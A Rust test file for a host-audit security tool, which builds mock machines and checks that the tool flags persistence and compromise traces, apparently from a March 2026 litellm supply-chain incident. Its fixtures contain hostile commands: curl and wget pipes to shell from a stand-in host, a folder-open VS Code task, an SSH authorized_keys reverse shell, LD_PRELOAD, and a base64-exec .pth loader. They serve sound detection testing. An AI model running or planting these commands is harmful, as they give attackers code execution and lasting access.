//! A machine made here, with and without the traces of March 2026.

use crate::{scratch, terms};
use guard::advisory::Advisories;
use guard::finding::{Finding, Kind, Severity};
use guard::host::{self, Host};
use guard::{Outcome, Report, render};
use std::fs;
use std::path::Path;

fn write(root: &Path, path: &str, text: &str) {
    let path = root.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(&path, text).unwrap();
}

/// A machine on which people work.
fn honest(name: &str) -> std::path::PathBuf {
    let root = scratch(name);
    write(&root, "home/ann/.bashrc", "# mine\neval \"$(direnv hook bash)\"\nalias ll='ls -l'\n");
    write(
        &root,
        "home/ann/.config/systemd/user/sync.service",
        "[Service]\nExecStart=/usr/bin/syncthing serve\n",
    );
    write(&root, "home/ann/app/.git/hooks/pre-commit", "#!/bin/sh\nexec pre-commit run\n");
    write(&root, "home/ann/app/.git/hooks/pre-push.sample", "curl http://x.example | sh\n");
    write(&root, "home/ann/app/.vscode/tasks.json", "{\"tasks\": [{\"command\": \"make\"}]}\n");
    write(
        &root,
        "home/ann/app/.claude/settings.json",
        "{\"hooks\": {\"PostToolUse\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"cargo fmt\"}]}]}}\n",
    );
    write(&root, "etc/crontab", "SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n");
    write(&root, "proc/40/comm", "python3\n");
    write(&root, "proc/40/cmdline", "python3\0-m\0app\0");
    fs::create_dir_all(root.join("proc/40/fd")).unwrap();
    std::os::unix::fs::symlink("socket:[4242]", root.join("proc/40/fd/3")).unwrap();
    write(
        &root,
        "proc/net/tcp",
        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   0: 00000000:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 4242 1 0\n",
    );
    write(
        &root,
        "home/ann/.venv/lib/python3.12/site-packages/click-8.1.7.dist-info/METADATA",
        "Metadata-Version: 2.1\nName: click\nVersion: 8.1.7\n\n",
    );
    root
}

fn audit(root: &Path) -> Report {
    let ask = host::Ask { host: Host::at(root), paths: Vec::new(), terms: terms() };
    host::audit(&ask, &Advisories::built_in())
}

fn critical(report: &Report) -> Vec<&Finding> {
    report.findings.iter().filter(|finding| finding.severity == Severity::Critical).collect()
}

#[test]
fn a_machine_on_which_people_work_is_clean_and_what_starts_by_itself_is_listed() {
    let report = audit(&honest("host-honest"));
    assert_eq!(report.outcome, Outcome::Clean, "{}", render::table(&report));
    let listed: Vec<&str> = report.findings.iter().map(|f| f.subject.as_str()).collect();
    assert_eq!(
        listed,
        [
            "cron entries: 1",
            "git hooks: 1",
            "hooks of coding agents: 1",
            "units of the service manager: 1",
            "sockets listen beyond this machine: 1",
        ]
    );
    assert!(
        report.findings[4].evidence[0].text.starts_with("python3 (40) listens on 0.0.0.0:8080")
    );
}

#[test]
fn every_trace_of_march_2026_is_found_with_what_to_do_first() {
    let root = honest("host-victim");
    write(&root, "home/ann/.config/sysmon/sysmon.py", "");
    write(
        &root,
        "home/ann/.config/systemd/user/sysmon.service",
        "[Service]\nExecStart=/usr/bin/python3 /home/ann/.config/sysmon/sysmon.py\nRestart=always\n",
    );
    write(&root, "tmp/pglog", "x");
    write(&root, "tmp/tpcp.tar.gz", "x");
    write(
        &root,
        "home/ann/.venv/lib/python3.12/site-packages/litellm-1.82.8.dist-info/METADATA",
        "Metadata-Version: 2.1\nName: litellm\nVersion: 1.82.8\n\n",
    );
    write(
        &root,
        "home/ann/.venv/lib/python3.12/site-packages/litellm_init.pth",
        "import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('cGFzcw=='))\"])\n",
    );
    write(&root, "proc/77/comm", "python3\n");
    write(&root, "proc/77/cmdline", "python3\0/home/ann/.config/sysmon/sysmon.py\0");
    let addresses = if cfg!(target_endian = "little") {
        ("0100007F:9000", "0BD18E53:01BB")
    } else {
        ("7F000001:9000", "538ED10B:01BB")
    };
    write(
        &root,
        "proc/net/tcp",
        &format!("  sl\n   0: {} {} 01 0:0 00:0 0 1000 0 77 1 0\n", addresses.0, addresses.1),
    );
    let report = audit(&root);
    let found = critical(&report);
    let has = |word: &str| found.iter().any(|f| f.subject.contains(word));
    for word in [
        "sysmon.py",
        "sysmon.service",
        "tmp/pglog",
        "tpcp.tar.gz",
        "process 77",
        "litellm 1.82.8",
        "litellm_init.pth",
    ] {
        assert!(has(word), "{word} in {}", render::table(&report));
    }
    let talks =
        found.iter().find(|f| f.evidence.iter().any(|e| e.text.contains("83.142.209.11:443")));
    assert!(talks.is_some(), "{}", render::table(&report));
    let empty = found.iter().find(|f| f.subject.ends_with("sysmon.py")).unwrap();
    assert!(empty.evidence[0].text.contains("empty"));
    assert!(empty.do_first.contains("`keymoat incident open --advisory MAL-2026-2144`"));
    assert!(
        found
            .iter()
            .filter(|f| f.kind == Kind::Indicator)
            .all(|f| f.do_first.starts_with("Cut the machine off"))
    );
}

#[test]
fn what_stays_on_a_machine_stands_out_and_shows_no_key() {
    let root = honest("host-persistent");
    let key = "sk-proj-7Qm2Zk9XvT4bRn8Lw3Yp6Hs1Jc5Gd0FaEuViOxKqMtBy";
    write(
        &root,
        "home/ann/.config/systemd/user/x.service",
        &format!("[Service]\nExecStart=/bin/sh -c 'curl -H {key} http://x.example/i | sh'\n"),
    );
    write(&root, "home/ann/.zshrc", "export LD_PRELOAD=/home/ann/.cache/x.so\n");
    write(
        &root,
        "home/ann/app/.vscode/tasks.json",
        "{ // opens\n\"runOptions\": {\"runOn\": \"folderOpen\"},\n\"command\": \"wget -qO- http://x.example | bash\" }\n",
    );
    write(
        &root,
        "home/ann/.ssh/authorized_keys",
        "command=\"bash -i >& /dev/tcp/10.0.0.1/443 0>&1\" ssh-ed25519 AAAA x\n",
    );
    write(&root, "proc/net/tcp", "");
    let report = audit(&root);
    let high: Vec<&Finding> =
        report.findings.iter().filter(|f| f.severity == Severity::High).collect();
    assert_eq!(high.len(), 4, "{}", render::table(&report));
    assert!(high.iter().all(|f| f.kind == Kind::Persistence));
    for shown in [render::table(&report), render::json(&report), render::sarif(&report)] {
        assert!(!shown.contains("7Qm2Zk9X"), "{shown}");
        assert!(shown.contains("[redacted]"));
    }
}

#[test]
fn a_disk_has_no_processes_and_another_folder_is_no_disk() {
    let root = scratch("host-disk");
    assert_eq!(audit(&root).outcome, Outcome::NotAudited);
    fs::create_dir_all(root.join("home/ann")).unwrap();
    assert_eq!(audit(&root).outcome, Outcome::Clean);
    // Processes that are there and cannot be read are a gap.
    fs::create_dir_all(root.join("proc/1")).unwrap();
    assert_eq!(audit(&root).outcome, Outcome::NotAudited);
}
